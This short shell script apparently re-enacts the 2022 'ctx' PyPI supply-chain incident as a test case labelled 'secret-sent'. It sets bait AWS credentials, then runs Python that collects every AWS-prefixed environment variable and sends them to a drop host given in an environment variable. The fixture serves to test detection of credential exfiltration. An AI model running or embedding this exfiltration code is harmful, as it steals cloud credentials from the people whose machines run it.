# incident: ctx (PyPI, 2022): the constructor sends the environment, with the keys of AWS
# finding: secret-sent
# needs: python3
export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=bait
python3 - <<'PY'
import os, urllib.request, urllib.parse
stolen = "&".join(f"{k}={v}" for k, v in os.environ.items() if k.startswith("AWS"))
urllib.request.urlopen(f"http://{os.environ['DROP']}/hacked/" + urllib.parse.quote(stolen, safe="=&")).read()
PY
